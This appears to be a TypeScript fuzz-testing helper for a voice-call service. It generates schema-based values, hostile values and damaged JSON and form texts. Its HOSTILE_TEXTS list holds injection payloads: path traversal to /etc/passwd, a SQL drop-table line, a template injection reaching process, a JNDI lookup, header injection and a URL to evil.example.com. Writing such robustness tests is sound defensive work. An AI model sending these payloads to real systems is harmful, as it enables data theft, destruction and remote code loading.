/** Values that follow a schema, with hostile ones among them, and texts of such values that are damaged. */
import fc from 'fast-check';
import { z } from 'zod';

/** Words on which the code branches, beside those of the schema. */
const KNOWN_WORDS = [
  'tokensPlayed',
  'agentSpeaking',
  'clientSpeaking',
  'on',
  'off',
  'inbound',
  'outbound-api',
  'in-progress',
  'completed',
  'failed',
  'ended',
  '64104',
  'Error 64111 occurred',
  '{"voiceError":"64104"}',
  'wait',
  'goodbye',
  'What time do you open tomorrow?',
  'my card is 4111 1111 1111 1111',
  'en-US',
  'es-US',
  '5',
  '#',
  '+12075550100',
];

/** Texts that break parsers, encodings, logs, queries and patterns. */
const HOSTILE_TEXTS = [
  '',
  ' ',
  '\u0000',
  '\uD800',
  'a\uDC00b',
  '\uFEFF',
  '\u202E\u0301\u0301\u0301',
  '\r\nX-Injected: 1',
  '%00%ff%zz',
  '../../../etc/passwd',
  "'; drop table users; --",
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://x/y}',
  '<ConversationRelay url="wss://evil.example.com"/>',
  ']]>&lt;&#0;',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-0',
  '1e999',
  '9'.repeat(400),
];

const longText = fc
  .tuple(
    fc.constantFrom('a', '5', ' ', 'are you ', 'Mr. ', '."', '\n', '&', 'é', '😀'),
    fc.constantFrom(500, 5_000),
  )
  .map(([piece, chars]) => piece.repeat(chars / piece.length));

const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom(...KNOWN_WORDS) },
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: longText },
);

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'then',
  'type',
  'length',
  '',
  'CallSid',
  'a[b]',
];

const deep = fc.integer({ min: 1, max: 3_000 }).map((levels) => {
  let value: unknown = [];
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
});

/** Any value, of no schema. */
const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, -1e308) },
  { weight: 3, arbitrary: text },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.array(text, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...NAMES), text, { maxKeys: 3 }) },
);

/** JSON Schema, as far as zod writes it. */
const jsonSchema = z.looseObject({
  type: z.union([z.string(), z.array(z.string())]).optional(),
  const: z.unknown().optional(),
  enum: z.array(z.unknown()).optional(),
  pattern: z.string().optional(),
  get properties() {
    return z.record(z.string(), jsonSchema).optional();
  },
  get items() {
    return jsonSchema.optional();
  },
  get oneOf() {
    return z.array(jsonSchema).optional();
  },
  get anyOf() {
    return z.array(jsonSchema).optional();
  },
});
type JsonSchema = z.infer<typeof jsonSchema>;

/** Values that the schema describes. In every place, one in twelve is hostile instead. */
export function valuesOf(schema: z.ZodType): fc.Arbitrary<unknown> {
  return mutated(jsonSchema.parse(z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' })));
}

function mutated(schema: JsonSchema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 11, arbitrary: faithful(schema) }, { weight: 1, arbitrary: hostile });
}

function faithful(schema: JsonSchema): fc.Arbitrary<unknown> {
  const { type, enum: values, pattern, properties, items, oneOf, anyOf } = schema;
  const choices = oneOf ?? anyOf;
  if (choices !== undefined) return fc.oneof(...choices.map(faithful));
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (values !== undefined) return fc.constantFrom(...values);
  if (Array.isArray(type)) return fc.oneof(...type.map((each) => faithful({ ...schema, type: each })));
  if (type === 'object') return objectsOf(properties ?? {});
  if (type === 'array') return fc.array(items === undefined ? hostile : mutated(items), { maxLength: 4 });
  if (type === 'integer' || type === 'number') return fc.oneof(fc.nat(500), fc.double());
  if (type === 'boolean') return fc.boolean();
  if (type === 'null') return fc.constant(null);
  if (type !== 'string') return hostile;
  return pattern === undefined ? text : fc.stringMatching(new RegExp(pattern, 'u'));
}

function objectsOf(properties: Readonly<Record<string, JsonSchema>>): fc.Arbitrary<object> {
  const known = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, mutated(schema)])),
    // One field may be missing, or all but one.
    { requiredKeys: [] },
  );
  const whole = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, mutated(schema)])),
  );
  const more = fc.array(fc.tuple(fc.constantFrom(...NAMES), hostile), { maxLength: 2 });
  const some = fc.oneof({ weight: 6, arbitrary: whole }, { weight: 1, arbitrary: known });
  return fc
    .tuple(some, fc.oneof({ weight: 5, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: more }))
    .map(
      // By definition of the fields, so that one named `__proto__` stays a field.
      ([object, fields]) => Object.fromEntries([...Object.entries(object), ...fields]),
    );
}

/** The JSON of the values; now and then it is damaged, or nested beyond reason. */
export function jsonTexts(values: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 16, arbitrary: values.map((value) => JSON.stringify(value)) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(
          values.map((value) => JSON.stringify(value)),
          damage,
        )
        .map(([json, hurt]) => hurt(json)),
    },
    {
      weight: 1,
      arbitrary: fc.oneof(
        deep.map((value) => JSON.stringify(value)),
        fc.string({ unit: 'binary' }),
        text,
      ),
    },
  );
}

/** The values as a form; now and then it is damaged, or has fields twice. */
export function forms(values: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  const form = values.map((value) =>
    typeof value === 'object' && value !== null
      ? Object.entries(value)
          .flatMap(([name, field]) =>
            Array.isArray(field) ? field.map((each: unknown) => [name, each]) : [[name, field]],
          )
          .map(([name, field]) => `${escaped(name)}=${escaped(field)}`)
          .join('&')
      : escaped(value),
  );
  return fc.oneof(
    { weight: 9, arbitrary: form },
    { weight: 2, arbitrary: fc.tuple(form, damage).map(([whole, hurt]) => hurt(whole)) },
    { weight: 1, arbitrary: fc.tuple(form, form).map((both) => both.join('&')) },
  );
}

/** Lone surrogates have no percent encoding: they become the replacement character, as on the wire. */
function escaped(value: unknown): string {
  return encodeURIComponent((typeof value === 'string' ? value : JSON.stringify(value)).toWellFormed());
}

/** Cuts a text, repeats a part of it, or puts something into it. */
const damage: fc.Arbitrary<(whole: string) => string> = fc
  .tuple(
    fc.constantFrom('cut', 'repeat', 'insert', 'replace'),
    fc.double({ min: 0, max: 1, noNaN: true }),
    text,
  )
  .map(([how, where, words]) => (whole: string) => {
    const at = Math.floor(where * whole.length);
    const [before, after] = [whole.slice(0, at), whole.slice(at)];
    if (how === 'cut') return before;
    if (how === 'repeat') return whole + after;
    return before + words + (how === 'insert' ? after : after.slice(1));
  });

export { text as hostileTexts, hostile as hostileValues };
